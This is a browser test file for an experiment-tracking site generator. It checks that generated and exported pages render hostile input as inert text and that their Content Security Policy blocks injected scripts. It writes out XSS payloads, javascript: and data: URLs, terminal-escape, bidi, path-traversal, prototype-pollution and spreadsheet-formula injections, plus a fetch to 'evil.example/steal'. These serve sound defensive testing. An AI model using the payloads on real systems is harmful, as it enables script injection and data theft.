"""Every attack of the threat model, in every field, on every page: it is text, and asks nothing."""

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import numpy as np
import pytest
from playwright.sync_api import Browser, Page, expect

from runhooks.record.document import to_bytes
from runhooks.record.parts import Part, Rows
from runhooks.record.view import MetricStats, RunView, Session
from runhooks.site.build import Pages, build_project, build_root, build_run
from runhooks.site.export import export_html
from runhooks.storage import LocalStore
from tests.browser.made import START, MadeStore

pytestmark = pytest.mark.browser

ELSEWHERE = "https://evil.example"
ATTACKS = (
    "</script><script>window.owned='script'</script>",
    f"<img src=x onerror=\"window.owned='img'\"><img src={ELSEWHERE}/beacon.png>",
    f"<svg onload=window.owned='svg'><link rel=stylesheet href={ELSEWHERE}/a.css>",
    "javascript:window.owned='link'",
    "data:text/html,<script>window.owned='data'</script>",
    "\"'></option></style><!--<script>",
    "\x1b]8;;https://evil.example\x07\x1b[2Jansi\x9b31m",
    "\u202egnp.txt\u2066\u2028\u2029",
    "../../%2e%2e/etc\x00passwd",
    "__proto__",
    "=HYPERLINK(\"https://evil.example\")",
    "{{7*7}}${7*7}",
)  # fmt: skip
ALL = " ".join(ATTACKS)
FOLDER = "team/digits/runs/hostile"

LEAKS = """() => ({
  owned: window.owned ?? null,
  polluted: ({}).polluted ?? null,
  foreign: [...document.querySelectorAll('[src], [href], [data], [action], [srcset]')]
    .filter((e) => !e.closest('head')).map((e) => e.outerHTML)
    .filter((html) => !/^<(a|img|audio|video|source|iframe)[ >]/.test(html)
      || /(src|href)="(javascript|data:text)/i.test(html)),
  links: [...document.links].map((a) => a.protocol).filter((p) => !/^(https?|file):$/.test(p)),
  handlers: [...document.querySelectorAll('*')]
    .filter((e) => [...e.attributes].some((a) => /^on/i.test(a.name))).map((e) => e.outerHTML),
  unseen: /[\\u202a-\\u202e\\u2066-\\u2069\\u0000\\u001b]/.test(document.body.innerText),
})"""
CLEAN: dict[str, Any] = {
    "owned": None, "polluted": None, "foreign": [], "links": [], "handlers": [], "unseen": False,
}  # fmt: skip


def hostile_run() -> RunView:
    everywhere: dict[str, Any] = {attack: {attack: [attack, {"polluted": attack}]} for attack in ATTACKS}
    return RunView(
        "hostile",
        "team",
        "digits",
        ALL,
        START,
        "failed",
        reason=ALL,
        ended_at=START + 10**6,
        config=everywhere,
        summary={**everywhere, "value": ALL},
        environment={
            **dict.fromkeys(
                ("host", "python", "command", "os", "author", "cwd", "executable", "program"), ALL
            ),
            "git": {"remote": ATTACKS[3], "branch": ALL, "commit": ALL},
            "gpus": [{"name": ALL}],
            "job": everywhere,
        },
        metrics={
            **{attack: MetricStats(1, 1.0, 1.0, 0, START, 1.0, 1.0, 1.0, 0, 1) for attack in ATTACKS},
            "words": MetricStats(1, ALL, ALL),
        },
        definitions={ATTACKS[0]: {"goal": ALL, "step_metric": ALL}, ATTACKS[1]: {"goal": "minimize"}},
        sessions=[Session(ALL, START, START + 10**6)],
        exit={"exit_code": 1, "signal": ALL, "error": {"type": ALL, "message": ALL, "traceback": ALL}},
        alerts=[{"time": START, "title": ALL, "text": ALL, "level": "error"}],
        tags=[*ATTACKS],
        notes=ALL,
        group=ALL,
        job_type=ALL,
        last_step=0,
        last_log_at=START,
    )


@pytest.fixture
def store(made: MadeStore) -> LocalStore:
    store, part = LocalStore(made.root), Part()
    for attack in ATTACKS:
        part.add(attack, Rows(np.array([0]), np.array([START]), np.array([1.0]), None, {}))
    store.write(f"{FOLDER}/history/w-00000000.parquet", part.to_bytes())
    store.write(f"{FOLDER}/run.json", to_bytes(hostile_run()))
    build_run(store, FOLDER, Pages(store, made.assets))
    build_project(store, "team", "digits", Pages(store, made.assets))
    build_root(store, Pages(store, made.assets))
    (made.root / "mailed.html").write_bytes(export_html(store, FOLDER).page)
    return store


@pytest.fixture
def visit(chromium: Browser) -> Iterator[Callable[..., Page]]:
    """Open an address; anything that runs, complains or asks another host makes the test fail."""
    problems: list[str] = []
    contexts = []

    def open_it(address: str, **options: Any) -> Page:
        context = chromium.new_context(viewport={"width": 1440, "height": 900}, **options)
        contexts.append(context)
        page, home = context.new_page(), urlsplit(address).netloc

        def look(request: Any) -> None:
            to = urlsplit(request.url)
            if to.scheme not in ("data", "blob") and to.netloc != home:
                problems.append(request.url)

        context.on("request", look)
        context.on("page", lambda extra: problems.append(f"window: {extra.url}"))
        page.on("dialog", lambda dialog: problems.append(f"dialog: {dialog.message}"))
        page.on("pageerror", lambda error: problems.append(str(error)))
        page.on("console", lambda said: problems.append(said.text) if said.type == "error" else None)
        page.goto(address)
        return page

    yield open_it
    for context in contexts:
        context.close()
    assert problems == []


def clean(page: Page) -> None:
    assert page.evaluate(LEAKS) == CLEAN


@pytest.mark.parametrize("scripts", [True, False], ids=["scripts", "no scripts"])
def test_attacks_are_text_on_every_page(
    store: LocalStore, made: MadeStore, visit: Callable[..., Page], static_host: Callable[[Path], str],
    scripts: bool,
) -> None:  # fmt: skip
    host = static_host(made.root)
    page = visit(f"{host}/{FOLDER}/index.html", java_script_enabled=scripts)
    expect(page.get_by_role("heading", level=1)).to_contain_text(
        "</script><script>window.owned='script'</script>"
    )
    if scripts:
        expect(page.locator(".card").first).to_be_visible()
        clean(page)
        for tab in page.get_by_role("tab").all():
            tab.click()
            clean(page)
        expect(page.get_by_role("region", name="Facts")).to_contain_text("javascript:window.owned")
    page = visit(f"{host}/team/digits/index.html", java_script_enabled=scripts)
    expect(page.locator("table").first).to_contain_text("onerror=")
    if scripts:
        clean(page)
    page = visit(f"{host}/index.html", java_script_enabled=scripts)
    expect(page.locator("body")).to_contain_text("digits")


def test_attacks_are_text_in_an_exported_file(
    made: MadeStore, store: LocalStore, visit: Callable[..., Page]
) -> None:
    page = visit((made.root / "mailed.html").as_uri())
    expect(page.locator(".card").first).to_be_visible()
    for tab in page.get_by_role("tab").all():
        tab.click()
        clean(page)


def test_the_policy_stops_what_would_get_through(
    store: LocalStore, made: MadeStore, open_page: Callable[..., Page], problems: list[str]
) -> None:
    page = open_page(made.root / FOLDER / "index.html")
    expect(page.locator(".card").first).to_be_visible()
    page.evaluate(
        f"""() => {{
          const markup = '<img src="{ELSEWHERE}/x.png" onerror="window.owned = 1">'
          document.body.insertAdjacentHTML('beforeend', markup)
          const script = document.createElement('script')
          script.text = 'window.owned = 2'
          document.body.append(script)
          fetch('{ELSEWHERE}/steal').catch(() => {{}})
        }}"""
    )
    page.wait_for_timeout(200)
    assert page.evaluate("() => window.owned ?? null") is None
    assert len([problem for problem in problems if "Content Security Policy" in problem]) >= 3
    problems.clear()
